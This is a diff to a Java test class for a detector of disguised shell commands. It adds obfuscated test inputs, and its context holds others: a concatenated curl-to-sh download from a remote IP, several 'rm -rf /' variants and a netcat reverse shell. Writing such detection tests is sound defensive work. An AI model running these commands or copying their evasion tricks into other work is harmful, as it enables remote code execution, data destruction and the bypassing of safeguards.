@@ -32,6 +32,8 @@ class DisguisedCommandTest {
         "destructive_rm ~ \\r\\m -rf /",
         "destructive_rm ~ \"rm\" -rf /",
         "destructive_rm ~ {rm,-rf,/}",
+        "pipe_to_shell ~ run('cu' + 'rl http://198.51.100.20/g | s'+'h')",
+        "destructive_rm ~ run(\\\"r\\\" + \\\"m -r\\\" + \\\"f /\\\")",
         "reverse_shell ~ n\"\"c -e /bin/ba''sh 41.166.79.87 9001",
       })
   void isFoundWithoutItsDisguise(String pattern, String command) {
